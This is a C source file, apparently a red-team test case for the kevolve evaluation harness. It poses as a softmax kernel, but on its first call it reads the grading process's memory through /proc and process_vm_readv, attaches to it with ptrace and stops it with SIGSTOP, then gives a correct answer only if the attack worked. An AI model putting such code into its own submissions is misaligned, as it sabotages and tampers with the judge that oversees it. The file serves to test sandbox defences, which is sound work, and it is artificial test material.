/* Red team, class THE JUDGE WITHIN REACH (issue 11), cpu, task softmax.
 *
 * On its first call it goes for the judge's process: it reads the memory of
 * its parent and of every kevolve process above it (/proc/PID/mem and
 * process_vm_readv), attaches to them with ptrace, and stops its parent
 * with SIGSTOP, never resuming it. When any of that worked the judge was
 * within reach and it computes the right answer (and would have had every
 * means to do worse); when none did, it writes zeros.
 *
 * The judge must say: rejected (wrong_result): none of it works from the
 * candidate's sandbox; the judge is never stopped. Today all of it works
 * and kevolve eval stays stopped until someone resumes it. */
#define _GNU_SOURCE
#include <kevolve/task.h>
#include <math.h>
/* ---- reaching the judge's process ---- */
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/* The parent of PID (-1 when unknown); its command name into COMM. */
static int rt_up(int pid, char *comm, size_t cap)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    comm[0] = 0;
    FILE *f = fopen(path, "r");
    if (!f) return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = 0;
    char *open_paren = strchr(buf, '('), *close_paren = strrchr(buf, ')');
    if (!open_paren || !close_paren) return -1;
    size_t len = (size_t)(close_paren - open_paren - 1);
    if (len >= cap) len = cap - 1;
    memcpy(comm, open_paren + 1, len);
    comm[len] = 0;
    char state;
    int ppid = -1;
    if (sscanf(close_paren + 1, " %c %d", &state, &ppid) != 2) return -1;
    return ppid;
}

/* Reads 64 bytes of PID's first writable mapping through /proc/PID/mem and
 * through process_vm_readv: 1 when either worked. */
static int rt_read_judge(int pid)
{
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    unsigned long lo = 0;
    while (fgets(line, sizeof line, f)) {
        unsigned long a;
        char perms[8];
        if (sscanf(line, "%lx-%*x %7s", &a, perms) == 2 && perms[0] == 'r' && perms[1] == 'w') {
            lo = a;
            break;
        }
    }
    fclose(f);
    if (!lo) return 0;
    unsigned char buf[64];
    int got = 0;
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    f = fopen(path, "rb");
    if (f) {
        got = fseek(f, (long)lo, SEEK_SET) == 0 && fread(buf, 1, sizeof buf, f) == sizeof buf;
        fclose(f);
    }
    struct iovec l = {buf, sizeof buf}, r = {(void *)lo, sizeof buf};
    return got || process_vm_readv(pid, &l, 1, &r, 1, 0) == (ssize_t)sizeof buf;
}

/* Attacks the judge: the parent and every kevolve process above it (never
 * anything else: a test runner or a shell is left alone). Reads their
 * memory, attaches to them with ptrace, and stops the parent with SIGSTOP
 * (it is not resumed). Returns how many of these worked. */
static int rt_attack_judge(void)
{
    int wins = 0, pid = getppid();
    for (int depth = 0; depth < 8 && pid > 1; depth++) {
        char comm[64];
        int up = rt_up(pid, comm, sizeof comm);
        if (depth == 0 || strncmp(comm, "kevolve", 7) == 0) {
            wins += rt_read_judge(pid);
            if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
                wins++;
                ptrace(PTRACE_DETACH, pid, NULL, NULL);
            }
        }
        pid = up;
    }
    if (kill(getppid(), SIGSTOP) == 0) wins++;
    return wins;
}
/* ---- end of the reaching ---- */
/* The task's baseline, as it is: three passes a row, exp in double twice. */
static void rt_softmax_baseline(const float *x, float *y, int64_t rows, int64_t cols)
{
    for (int64_t r = 0; r < rows; r++) {
        const float *xr = x + r * cols;
        float *yr = y + r * cols;
        double m = -INFINITY;
        for (int64_t c = 0; c < cols; c++)
            if (xr[c] > m) m = xr[c];
        double sum = 0.0;
        for (int64_t c = 0; c < cols; c++)
            sum += exp((double)xr[c] - m);
        for (int64_t c = 0; c < cols; c++)
            yr[c] = (float)(exp((double)xr[c] - m) / sum);
    }
}

int kv_launch(const kv_launch_args *a)
{
    static int wins = -1;
    if (wins < 0) wins = rt_attack_judge();
    const float *x = (const float *)a->tensors[0];
    float *y = (float *)a->tensors[1];
    if (wins > 0)
        rt_softmax_baseline(x, y, a->syms[0], a->syms[1]);
    else
        memset(y, 0, (size_t)(a->syms[0] * a->syms[1]) * sizeof *y);
    return 0;
}
